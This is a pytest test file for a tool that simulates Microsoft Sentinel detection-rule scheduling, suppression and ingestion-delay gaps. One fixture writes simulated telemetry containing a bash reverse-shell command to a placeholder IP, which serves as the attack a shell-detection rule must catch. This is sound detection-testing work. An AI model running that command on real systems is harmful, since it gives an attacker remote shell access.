"""Sentinel scheduling, simulated: durations, schedules, which queries can be binned."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ctirealm.plugin.content_schedule import Schedule, binned, parse_duration, unbinnable
from ctirealm.telemetry.schema import load_schemas
from tests.plugin.content_project import MATCH_CSV, content_project, rule, write_telemetry

ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    ("text", "minutes"),
    [
        ("5m", 5),
        ("1h", 60),
        ("14d", 20160),
        ("PT5M", 5),
        ("PT1H", 60),
        ("P1D", 1440),
        ("P1DT12H", 2160),
        ("pt30m", 30),
        ("1w", None),
        ("P", None),
        ("PT", None),
        ("", None),
        (None, None),
        ("60", None),
    ],
)
def test_durations(text: object, minutes: int | None) -> None:
    found = parse_duration(text)
    assert (found.total_seconds() / 60 if found else None) == minutes


def test_schedule_runs_cover_the_window_and_end_at_the_clock() -> None:
    start, end = datetime(2026, 3, 2, tzinfo=UTC), datetime(2026, 3, 16, tzinfo=UTC)
    schedule = Schedule.of(
        {"queryFrequency": "1d", "queryPeriod": "P2D", "triggerOperator": "lt", "triggerThreshold": 3}
    )
    ends = schedule.ends(start, end)
    assert len(ends) == 14 and ends[-1] == end and ends[0] == start + timedelta(days=1)
    assert schedule.fires(2) and not schedule.fires(3)
    assert schedule.describe() == "every 1d over the last 2d, alerting when results < 3"
    stalled = Schedule.of({"queryFrequency": "0m", "queryPeriod": "PT0M"})
    assert len(stalled.ends(start, end)) == 336
    nrt = Schedule.of({"kind": "NRT", "eventGroupingSettings": {"aggregationKind": "AlertPerResult"}})
    assert nrt.describe() == "every minute (NRT), alerting when results > 0, an alert per result row"


def test_binned_runs_overlap_when_the_period_is_longer() -> None:
    end = datetime(2026, 3, 16, tzinfo=UTC)
    schedule = Schedule.of(
        {"queryFrequency": "1h", "queryPeriod": "2h", "triggerOperator": "gt", "triggerThreshold": 1}
    )
    times = [end - timedelta(minutes=90), end - timedelta(minutes=30)]
    sim = binned(schedule, schedule.ends(end - timedelta(hours=3), end), [{"a": 1}, {"a": 2}], ["a"], times)
    assert [hi - lo for lo, hi in sim.spans] == [0, 1, 2]
    assert sim.firing() == [2] and sim.alerts(2) == [[{"a": 1}, {"a": 2}]]


@pytest.mark.parametrize(
    ("query", "reason"),
    [
        ('DeviceProcessEvents | where ProcessCommandLine has "x" | project Timestamp, ReportId', None),
        ("union SigninLogs, AuditLogs | where OperationName == 'x' | extend y = 1", None),
        ('DeviceProcessEvents | where ProcessCommandLine has "ago(1h) | summarize" // now()', None),
        ("DeviceProcessEvents | where Timestamp > ago(1h)", "it calls ago()"),
        ("let t = now(); SigninLogs", "it calls now()"),
        (
            "SigninLogs | summarize count() by UserPrincipalName",
            "it aggregates across the lookback (summarize)",
        ),
        ("SigninLogs | join (AuditLogs) on CorrelationId", "its rows may combine events (join)"),
        (
            "let bad = SigninLogs | where ResultType != '0' | project IPAddress;\n"
            "SigninLogs | where IPAddress in (bad)",
            "it compares with a sub-query over bad",
        ),
        (
            "SigninLogs | where IPAddress in (AuditLogs | project x)",
            "it compares with a sub-query over AuditLogs",
        ),
    ],
)
def test_which_queries_can_be_binned(query: str, reason: str | None) -> None:
    assert unbinnable(query, load_schemas(ROOT / "telemetry" / "schemas")) == reason


# -- suppression and ingestion delay ----------------------------------------------------------

END = datetime(2026, 3, 16, tzinfo=UTC)


def _hourly(**fields: object) -> Schedule:
    return Schedule.of(
        {
            "queryFrequency": "1h",
            "queryPeriod": "1h",
            "triggerOperator": "gt",
            "triggerThreshold": 0,
            **fields,
        }
    )


def test_suppression_stops_the_runs_after_an_alert() -> None:
    schedule = _hourly(suppressionEnabled=True, suppressionDuration="PT3H")
    ends = schedule.ends(END - timedelta(hours=8), END)
    # An event in each of the 8 hourly runs: the first alerts, the next two are suppressed
    # (scheduled less than 3h after it), the fourth alerts again, and so on.
    times = [end - timedelta(minutes=30) for end in ends]
    sim = binned(schedule, ends, [{"n": n} for n in range(8)], ["n"], times)
    assert sim.firing() == [0, 3, 6]
    assert sim.suppressed() == [1, 2, 4, 5, 7]
    assert [k for k, _ in sim.alert_groups()] == [0, 3, 6]
    assert sim.summary().endswith("; 3 raise alerts, 5 suppressed")
    assert schedule.describe() == (
        "every 1h over the last 1h, alerting when results > 0, suppressed for 3h after an alert"
    )


def test_suppression_is_off_unless_enabled() -> None:
    assert _hourly(suppressionEnabled=False, suppressionDuration="5h").suppression is None
    assert _hourly(suppressionDuration="5h").suppression is None
    quiet = _hourly(suppressionEnabled=True, suppressionDuration="1h")
    ends = quiet.ends(END - timedelta(hours=3), END)
    sim = binned(
        quiet, ends, [{"n": 1}, {"n": 2}, {"n": 3}], ["n"], [end - timedelta(minutes=1) for end in ends]
    )
    # A run scheduled exactly when the suppression ends does run.
    assert sim.firing() == [0, 1, 2] and sim.suppressed() == []


def test_up_to_five_minutes_of_ingestion_delay_costs_nothing() -> None:
    schedule = _hourly().with_ingestion_delay(timedelta(minutes=5))
    assert schedule.lag == timedelta(0) and schedule.coverage_gap() == timedelta(0)
    assert schedule.window(3, END) == (END - timedelta(hours=1), END)


def test_a_late_source_leaves_the_end_of_each_window_unread() -> None:
    # Events arrive 15 minutes late; Sentinel starts each run 5 minutes late, so the last 10
    # minutes of each window are not there yet, and the next hourly run does not reach back.
    late = _hourly().with_ingestion_delay(timedelta(minutes=15))
    assert late.window(0, END) == (END - timedelta(hours=1), END - timedelta(minutes=10))
    assert late.coverage_gap() == timedelta(minutes=10)
    ends = late.ends(END - timedelta(hours=2), END)
    sim = binned(
        late,
        ends,
        [{"at": "early"}, {"at": "late"}],
        ["at"],
        [END - timedelta(minutes=90), END - timedelta(minutes=65)],
    )
    assert [sim.run_rows(k) for k in range(2)] == [[{"at": "early"}], []]
    # A lookback longer by the lag reads it in the next run (and Sentinel reads it once).
    covered = _hourly(queryPeriod="70m").with_ingestion_delay(timedelta(minutes=15))
    assert covered.coverage_gap() == timedelta(0)
    sim = binned(covered, ends, [{"at": "late"}], ["at"], [END - timedelta(minutes=65)])
    assert [len(sim.run_rows(k)) for k in range(2)] == [0, 1]
    assert covered.describe().endswith("each run missing the last 10m of its window (not ingested yet)")


@settings(max_examples=60, deadline=None)
@given(
    frequency=st.integers(5, 600),
    extra=st.integers(0, 600),
    delay=st.integers(0, 120),
    offset=st.integers(0, 24 * 60 - 1),
)
def test_an_event_is_read_by_some_run_exactly_when_there_is_no_gap(
    frequency: int, extra: int, delay: int, offset: int
) -> None:
    schedule = _hourly(
        queryFrequency=f"{frequency}m", queryPeriod=f"{frequency + extra}m"
    ).with_ingestion_delay(timedelta(minutes=delay))
    start = END - timedelta(days=3)
    ends = schedule.ends(start, END)
    when = END - timedelta(days=2) + timedelta(minutes=offset, seconds=30)
    sim = binned(schedule, ends, [{"n": 1}], ["n"], [when])
    read = any(sim.run_rows(k) for k in range(len(ends)))
    if not schedule.coverage_gap():
        assert read
    # With a gap, an event at the end of a window is read by no run.
    gap = schedule.coverage_gap()
    if gap:
        blind = ends[len(ends) // 2] - schedule.lag + timedelta(seconds=1)
        alone = binned(schedule, ends, [{"n": 1}], ["n"], [blind])
        assert not any(alone.run_rows(k) for k in range(len(ends)))


# -- the same, through pytest ---------------------------------------------------------------------


@pytest.fixture
def project(pytester: pytest.Pytester, store_cache: Path) -> pytest.Pytester:

    telemetry = write_telemetry(pytester.path / "telemetry")
    # One more attack, an hour before the dataset's clock: its alert suppresses the next runs.
    late = telemetry / "attack" / "sim_late" / "DeviceProcessEvents.jsonl"
    late.parent.mkdir(parents=True)
    late.write_text(
        json.dumps(
            {
                "ReportId": 482913377999,
                "Timestamp": "2026-03-15T22:30:00Z",
                "DeviceName": "app-02",
                "AccountName": "svc-web",
                "ProcessCommandLine": "bash -i >& /dev/tcp/198.51.100.7/443 0>&1",
            }
        )
        + "\n"
    )
    return content_project(pytester, store_cache)


def _rule(
    project: pytest.Pytester,
    extra: str,
    *,
    tests_yaml: str | None = None,
    period: str = "1h",
    any_shell: bool = False,
) -> None:

    # Any /dev/tcp shell matches the store's look-alike too; the default rule does not.
    text = rule(condition="") if any_shell else rule()
    text = text.replace("queryPeriod: 1h", f"queryPeriod: {period}") + extra
    (project.path / "detections" / "shell.yaml").write_text(text)
    match = project.path / "detections" / "shell.tests" / "match"
    match.mkdir(parents=True)
    (match / "DeviceProcessEvents.csv").write_text(MATCH_CSV)
    if tests_yaml:
        (match.parent / "tests.yaml").write_text(tests_yaml)


def test_a_suppressed_alert_is_counted_apart(project: pytest.Pytester) -> None:
    # The look-alike's run (ending 14:00) comes 3h after the attack's alert (run ending 11:00):
    # suppressed, it raises no false positive. The must-match events' run comes 1h after the
    # late attack's alert: suppressed too, so the rule would not alert on them.
    _rule(project, "suppressionEnabled: true\nsuppressionDuration: PT5H\n", any_shell=True)
    result = project.runpytest("-v", "-rA")
    result.stdout.fnmatch_lines(["*shell.yaml::false_positives PASSED*"])
    result.stdout.fnmatch_lines(
        [
            "336 runs (every 1h over the last 1h, alerting when results > 0, suppressed for 5h after "
            "an alert), binned; 2 raise alerts, 1 suppressed"
        ]
    )
    result.stdout.fnmatch_lines(
        [
            "'Interactive reverse shell' (detections/shell.yaml): suppressed: the run ending "
            "2026-03-16T00:00Z that reads the must-match events gives 2 result rows, but an alert was "
            "raised by the run ending 2026-03-15T23:00Z, less than suppressionDuration (5h) before, "
            "so the rule did not run"
        ]
    )
    result.assert_outcomes(passed=6, failed=1)


def test_suppression_fields_are_checked(project: pytest.Pytester) -> None:
    _rule(project, "suppressionEnabled: true\nsuppressionDuration: 2d\n")
    result = project.runpytest("-v")
    result.stdout.fnmatch_lines(["*shell.yaml): suppressionDuration '2d': expected 5m to 24h"])


def test_a_late_source_needs_a_longer_lookback(project: pytest.Pytester) -> None:
    _rule(project, "", tests_yaml="ingestion_delay:\n  DeviceProcessEvents: 20m\n")
    result = project.runpytest("-v")
    result.stdout.fnmatch_lines(
        [
            "'Interactive reverse shell' (detections/shell.yaml): misses late events: with an "
            "ingestion delay of 20m, the last 15m of each run's window is not ingested yet when the "
            "run reads it (Sentinel starts a run 5m late), and the next run does not look back that "
            "far, so events in 15m of every 1h are never read: make queryPeriod at least 75m (and "
            "keep each event in one run with ingestion_time() > ago(1h))"
        ]
    )
    result.assert_outcomes(passed=6, failed=1)


def test_a_lookback_that_covers_the_delay_passes(project: pytest.Pytester) -> None:
    _rule(project, "", tests_yaml="ingestion_delay: 20m\n", period="75m")
    result = project.runpytest("-v", "-rA")
    result.assert_outcomes(passed=7)
    result.stdout.fnmatch_lines(
        [
            "336 runs (every 1h over the last 75m, alerting when results > 0, each run missing the "
            "last 15m of its window (not ingested yet)), binned; * raise alerts"
        ]
    )


def test_an_unknown_delay_table_is_named(project: pytest.Pytester) -> None:
    _rule(project, "", tests_yaml="ingestion_delay:\n  Syslog: 20m\n")
    result = project.runpytest("-v")
    result.stdout.fnmatch_lines(
        ["*tests.yaml: ingestion_delay names 'Syslog', which is not a table (tables: *"]
    )


@pytest.mark.slow
def test_a_coverage_gap_fails_without_must_match_events_too(project: pytest.Pytester) -> None:

    (project.path / "detections" / "shell.yaml").write_text(rule())
    (project.path / "detections" / "shell.tests").mkdir()
    (project.path / "detections" / "shell.tests" / "tests.yaml").write_text("ingestion_delay: 1h\n")
    result = project.runpytest("-v")
    result.stdout.fnmatch_lines(
        [
            "*shell.yaml): misses late events: with an ingestion delay of 1h, "
            "the last 55m of each run's window *make queryPeriod at least "
            "115m*"
        ]
    )
    result.assert_outcomes(passed=6, failed=1)
